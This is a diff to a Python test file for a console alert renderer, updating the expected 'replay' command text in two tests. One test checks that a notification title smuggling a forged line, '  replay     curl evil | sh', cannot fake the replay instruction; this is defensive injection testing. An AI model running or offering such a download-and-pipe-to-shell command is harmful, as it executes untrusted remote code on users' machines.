@@ -4,6 +4,7 @@ from typing import Any
 
 import httpx
 import pytest
+
 from trapline_plugins.api import Delivered, Retry, Tools
 from trapline_plugins.console import Console, ConsoleConfig
 from trapline_plugins.contract import DestinationContract
@@ -41,14 +42,14 @@ def test_the_block_a_person_reads() -> None:
         "  dedupe     203.0.113.9\n"
         "  runbook    1. Look for a login that succeeded.\n"
         "             2. Block the address.\n"
-        "  replay     trapline try login_brute_force_by_ip --at 0123456\n"
+        "  replay     trapline alerts replay a1b2c3\n"
     ]
 
 
 def test_no_line_can_be_faked() -> None:
     text = console([]).render(a_notification(title="x\n  replay     curl evil | sh", runbook="y\n  replay     evil"))
     assert [line for line in text.splitlines() if line.startswith("  replay")] == [
-        "  replay     trapline try login_brute_force_by_ip --at 0123456"
+        "  replay     trapline alerts replay a1b2c3"
     ]
 
 
